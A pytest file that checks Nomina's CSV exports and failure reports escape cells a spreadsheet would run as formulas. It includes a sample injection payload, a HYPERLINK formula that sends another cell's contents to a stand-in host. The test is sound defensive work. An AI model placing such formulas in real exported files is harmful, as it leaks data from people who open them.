"""CSV files Nomina writes for people to open: no cell a person typed can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from nomina.casefile import EXPORT_FIELDS, export_bytes
from nomina.files import FORMULA_START, csv_text
from nomina.importing import ImportReport, RowFailure

HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"details")'


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(start):
    assert read(csv_text([[start + "1+1", "ok"]])) == [["'" + start + "1+1", "ok"]]


def test_other_cells_are_written_as_they_are():
    rows = [["MP-1", "Ana =1", " =1", "", None, -3, -0.25, 7, "'already"]]
    assert read(csv_text(rows)) == [["MP-1", "Ana =1", " =1", "", "", "-3", "-0.25", "7", "'already"]]


def test_the_failures_file_and_the_export_keep_formulas_out(tmp_path):
    target = tmp_path / "failures.csv"
    ImportReport(failures=[RowFailure(3, HOSTILE, "@x.jpg", "+bad")]).write_failures(target)
    assert read(target.read_text()) == [
        ["line", "reference_id", "photo", "error"],
        ["3", "'" + HOSTILE, "'@x.jpg", "'+bad"],
    ]

    record = dict.fromkeys(EXPORT_FIELDS, "plain") | {"name": HOSTILE, "birth_year": 1970, "found_on": None}
    header, row = read(export_bytes([record], "csv", {"audit_head": "-ab"}).decode())
    assert header == [*EXPORT_FIELDS, "audit_head"]
    cells = dict(zip(header, row, strict=True))
    assert (cells["name"], cells["birth_year"], cells["found_on"], cells["audit_head"]) == (
        "'" + HOSTILE,
        "1970",
        "",
        "'-ab",
    )
    assert cells["case_id"] == "plain"
    # the JSON export holds the text unchanged
    assert HOSTILE in export_bytes([record], "json", {}).decode().replace('\\"', '"')
